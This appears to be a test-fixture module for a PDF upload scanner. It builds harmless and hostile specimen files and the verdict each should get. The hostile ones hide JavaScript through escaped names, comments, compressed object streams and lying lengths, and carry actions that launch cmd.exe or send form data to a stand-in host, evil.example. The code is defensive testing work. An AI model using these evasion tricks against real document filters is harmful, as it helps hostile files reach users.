import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName } from '@cantoo/pdf-lib'
import { action, ascii, join, pdf, stream } from './pdf-maker.ts'
import { html, zip, type Specimen, type Verdict } from './specimen.ts'

const good = (name: string, bytes: Buffer): Specimen => ({ name, bytes, verdict: 'application/pdf' })
const bad = (name: string, bytes: Buffer, verdict: Verdict): Specimen => ({ name, bytes, verdict })

const script = action('/S /JavaScript /JS (app.alert(1))')
const hidden = '<< /S /JavaScript /JS (app.alert(1)) >>'
/** Object 7 in an object stream. */
const packed = (object: string, dictionary = '/Filter /FlateDecode', encode: (bytes: Buffer) => Buffer = deflateSync): Buffer =>
  stream(6, `/Type /ObjStm /N 1 /First 4 ${dictionary}`, encode(ascii(`7 0 ${object}`)))
const hex = (bytes: Buffer): Buffer => ascii(`${bytes.toString('hex')}>`)

/** A plain stream of objects whose beginning and length viewers and the inspection could see differently. */
const loose = (of: { length: number | string; keyword?: string; content: string; end?: string; more?: string }): string =>
  `6 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Length ${of.length} >>\n${of.keyword ?? 'stream'}\n${of.content}${of.end ?? ''}\nendstream\nendobj\n${of.more ?? ''}`
/** Object 7 ends a stream for whoever does not believe its length; object 8 is behind it. */
const behindAnEnd = `7 0 8 20 (endstream endobj) ${hidden}`

/** A document of a kept library, locked or with a script in a compressed and encrypted object stream, or both. */
const made = async (of: { script?: boolean; user?: string; owner?: string }): Promise<Buffer> => {
  const document = await PDFDocument.create()
  document.addPage([200, 200])
  if (of.script) document.addJavaScript('main', 'app.alert(1)')
  if (of.owner !== undefined) document.encrypt({ ownerPassword: of.owner, ...(of.user === undefined ? {} : { userPassword: of.user }) })
  return Buffer.from(await document.save({ useObjectStreams: true }))
}

/** An invoice as e-invoicing makes it: the record is attached. */
const invoice = async (): Promise<Buffer> => {
  const document = await PDFDocument.create()
  document.addPage([200, 200])
  await document.attach(ascii('<Invoice/>'), 'invoice.xml', { mimeType: 'text/xml' })
  document.catalog.set(PDFName.of('PageMode'), PDFName.of('UseAttachments'))
  return Buffer.from(await document.save())
}

/** A document as authorities sign it: changed once more at its end, with the signature over all but itself and what is needed to check it later. */
const signed = (): Buffer =>
  join(
    pdf({ catalog: '/AcroForm << /Fields [8 0 R] /SigFlags 3 >> /Perms << /DocMDP 9 0 R >>' }),
    `8 0 obj\n<< /FT /Sig /Type /Annot /Subtype /Widget /T (Signature1) /F 132 /Rect [0 0 0 0] /P 3 0 R /V 9 0 R >>\nendobj\n`,
    `9 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 10 20 30] /Contents <${'3082'.repeat(400)}>`,
    ` /Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P 2 /V /1.2 >> >>] /M (D:20261122120000+03'00') >>\nendobj\n`,
    'trailer\n<< /Root 1 0 R /Prev 9 >>\nstartxref\n0\n%%EOF\n',
    '10 0 obj\n<< /Type /DSS /Certs [11 0 R] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\r\n',
  )

const harmless = async (): Promise<Specimen[]> => [
  good('a document', pdf()),
  good('a document of 2.0', Buffer.from(pdf().toString('latin1').replace('1.7', '2.0'), 'latin1')),
  good('a document that opens on its first page', pdf({ catalog: '/OpenAction [3 0 R /Fit]' })),
  good('a document that opens on its first page by an action', pdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' })),
  good('a document with a link', pdf({ objects: [action('/S /URI /URI (https://example.com/JS/JavaScript)')] })),
  good('a document with a button to its next page', pdf({ objects: [action('/AA << /U << /S /Named /N /NextPage >> >>')] })),
  good('a document with packed objects', pdf({ objects: [packed('<< /Type /Font >>')] })),
  good('a document with packed objects in capitals', pdf({ objects: [packed('<< /Type /Font >>', '/Filter [/FlateDecode]')] })),
  good(
    'a document with packed objects whose length stands elsewhere',
    pdf({
      objects: [loose({ length: '9 0 R', content: '7 0 8 5 null << /AA << /E << /S /Named >> >> >>', more: '9 0 obj\n48\nendobj\n' })],
    }),
  ),
  good('a document with a picture', pdf({ objects: [stream(5, '/Subtype /Image', Buffer.alloc(300, 9))] })),
  good('a document whose picture looks like a script', pdf({ objects: [stream(5, '/Subtype /Image', ascii(' /JS /Launch /AA '))] })),
  good('a document that ends with blank lines', join(pdf(), '\r\n\r\n')),
  good('a document with a file attached', pdf({ objects: [stream(5, '/Type /EmbeddedFile', ascii('<Invoice/>'))] })),
  good('an electronic invoice', await invoice()),
  good('a document of a library', await made({})),
  good('a document that only its owner may change', await made({ owner: 'owner' })),
  good('a signed document', signed()),
  good('a document changed later', join(pdf(), '5 0 obj\n<< /Type /Font >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n')),
]

const scripted = async (): Promise<Specimen[]> =>
  [
    ['a document with a script', pdf({ objects: [script] })],
    ['a document that runs a script when it opens', pdf({ catalog: '/OpenAction 5 0 R', objects: [script] })],
    ['a document with a script by name', pdf({ catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>' })],
    ['a document with a script under an escaped name', pdf({ objects: [action('/S /J#61vaScript /J#53 (app.alert(1))')] })],
    ['a document with a script behind a comment', pdf({ objects: [`5 %\n0%\nobj%\n${hidden}\nendobj\n`] })],
    ['a document with a script given twice', pdf({ objects: [action('/S /JavaScript /S /GoTo')] })],
    ['a document with a script that is cut off', pdf({ objects: ['5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) /A [\n'] })],
    ['a document with a script behind what nobody can read', pdf({ objects: [action('/Pad } /S /JavaScript')] })],
    ['a document with a script in packed objects', pdf({ objects: [packed(hidden)] })],
    ['a document with an escaped script in packed objects', pdf({ objects: [packed('<< /S /#4aavaScript >>')] })],
    ['a document with a script in plain packed objects', pdf({ objects: [packed(hidden, '', (bytes) => bytes)] })],
    ['a document with a script packed twice', pdf({ objects: [packed(hidden, '/Filter [/AHx /Fl]', (b) => hex(deflateSync(b)))] })],
    ['a document with packed objects behind padding', pdf({ objects: [packed(hidden, '/Pad ( obj) /Filter /FlateDecode')] })],
    [
      'a document with packed objects behind a long dictionary',
      pdf({ objects: [packed(hidden, `/Pad (${'x'.repeat(2500)}) /Filter /FlateDecode`)] }),
    ],
    ['a document with packed objects of no type', pdf({ objects: [stream(6, '/N 1 /First 4', ascii(`7 0 ${hidden}`))] })],
    ['a document with a script in a picture', pdf({ objects: [stream(6, '/Subtype /Image', ascii(` 5 0 obj ${hidden} endobj `))] })],
    ['a document with a script in a string', pdf({ objects: [action(`/Title (5 0 obj ${hidden} endobj)`, 9)] })],
    ['a document with a script in a comment', pdf({ objects: [`% 5 0 obj ${hidden} endobj\n`] })],
    ['a document with a script behind a lie about a length', pdf({ objects: [`6 0 obj\n<< /Length 1 0 R >>\nstream\n`, script] })],
    ['a document with a script in its trailer', pdf({ trailer: `/Root << /OpenAction ${hidden} >>` })],
    ['a document with a script behind a number with a point', pdf({ objects: [`5 0.obj ${hidden} endobj\n`] })],
    ['a document with a script behind a number with a sign', pdf({ objects: [`5 0-obj ${hidden} endobj\n5 0e+obj ${hidden} endobj\n`] })],
    [
      'a document with a script behind an end that a comment follows',
      pdf({ objects: [loose({ length: behindAnEnd.length, content: behindAnEnd, end: '\n%' })] }),
    ],
    [
      'a document with a script in packed objects of two counts',
      pdf({ objects: [stream(6, '/Type /ObjStm /N 1 /First 4 /N 0', ascii(`7 0 ${hidden}`))] }),
    ],
    [
      'a document with a script behind its packed objects',
      pdf({ objects: [stream(6, '/Type /ObjStm /N 1 /First 9', ascii(`7 0 8 5 null << /Pad } /S /JavaScript >>`))] }),
    ],
    ['a document with a living form', pdf({ catalog: '/AcroForm << /XFA 5 0 R >>' })],
    ['a document of a library with a script', await made({ script: true })],
    ['a document with a script that only its owner may change', await made({ script: true, owner: 'owner' })],
  ].map(([name, bytes]) => bad(String(name), Buffer.from(bytes ?? ''), 'file.script'))

const active = (): Specimen[] =>
  (
    [
      ['starts a program', { objects: [action('/S /Launch /F (cmd.exe)')] }],
      ['starts a program when it opens', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }],
      ['sends its form', { objects: [action('/S /SubmitForm /F (https://evil.example)')] }],
      ['loads data', { objects: [action('/S /ImportData /F (a.fdf)')] }],
      ['carries a film', { objects: [action('/Subtype /RichMedia')] }],
      ['opens another', { objects: [action('/S /GoToE')] }],
      ['calls home when it opens', { catalog: '/OpenAction 5 0 R', objects: [action('/S /URI /URI (https://evil.example)')] }],
      ['calls home when it closes', { catalog: '/AA << /WC 5 0 R >>', objects: [action('/S /URI /URI (https://evil.example)')] }],
      [
        'calls home after it has opened',
        {
          catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>',
          objects: [action('/S /Named /Next << /S /GoToR >> /Prev 5 0 R')],
        },
      ],
      [
        'calls home by triggers with a type',
        { catalog: '/AA << /S /GoTo /WC 5 0 R >>', objects: [action('/S /URI /URI (https://evil.example)')] },
      ],
      ['calls home from packed objects', { catalog: '/OpenAction 7 0 R', objects: [packed('<< /S /URI >>')] }],
    ] as const
  ).map(([name, extra]) => bad(`a document that ${name}`, pdf(extra), 'file.action'))

const unclear = async (): Promise<Specimen[]> => [
  bad('a document that needs a password', await made({ owner: 'owner', user: 'user' }), 'file.locked'),
  bad('a document whose lock is missing', pdf({ trailer: '/Encrypt 9 0 R' }), 'file.locked'),
  bad(
    'a document whose packed objects are damaged',
    pdf({ objects: [packed('<< >>', '/Filter /FlateDecode', (b) => b)] }),
    'file.unreadable',
  ),
  bad(
    'a document with packed objects as a picture',
    pdf({ objects: [packed('<< >>', '/Filter /DCTDecode', (b) => b)] }),
    'file.unreadable',
  ),
  bad(
    'a document with shuffled packed objects',
    pdf({ objects: [packed('<< >>', '/Filter /Fl /DecodeParms << /Predictor 12 >>')] }),
    'file.unreadable',
  ),
  bad('a document with packed objects in two ways', pdf({ objects: [packed('<< >>', '/Filter /Fl /F /AHx')] }), 'file.unreadable'),
  bad(
    'a document with packed objects that end somewhere else',
    pdf({ objects: [loose({ length: '9 0 R', content: behindAnEnd, more: `9 0 obj\n${behindAnEnd.length}\nendobj\n` })] }),
    'file.unreadable',
  ),
  bad(
    'a document with packed objects of a length that is missing',
    pdf({ objects: [loose({ length: '9 0 R', content: '7 0 8 5 null null' })] }),
    'file.unreadable',
  ),
  bad(
    'a document with packed objects that begin somewhere else',
    pdf({ objects: [loose({ length: 22, keyword: 'stream 7 0', content: '7 0 8 5 null null' })] }),
    'file.unreadable',
  ),
  bad(
    'a document with what is done by itself behind what nobody can read',
    pdf({ objects: [action('/Type /Catalog /Pad } /OpenAction << /S /URI >>', 1)] }),
    'file.unreadable',
  ),
  bad(
    'a document with what is done by itself in packed objects nobody can read',
    pdf({ objects: [packed('<< /Type /Catalog /Pad } /OpenAction << /S /URI >> >>')] }),
    'file.unreadable',
  ),
  bad('half a document', pdf().subarray(0, 120), 'file.unreadable'),
  bad('a document without its beginning', join('%PDF-1.7\n', pdf().subarray(120)), 'file.unreadable'),
  bad('a document with a page behind it', join(pdf(), html), 'file.unreadable'),
  bad('a document with an archive behind it', join(pdf(), zip), 'file.unreadable'),
  bad('the head of a document', ascii('%PDF-1.7\n'), 'file.unreadable'),
  bad('a document of no version', join('%PDF-x\n', pdf().subarray(9)), 'file.unreadable'),
  bad('a page with a document in it', join(html, pdf()), 'file.type'),
  bad('an archive with a document in it', join(zip, pdf()), 'file.type'),
]

/** Documents people and attackers upload, each with what must become of it. */
export const documentCorpus = async (): Promise<Specimen[]> => [
  ...(await harmless()),
  ...(await scripted()),
  ...active(),
  ...(await unclear()),
]
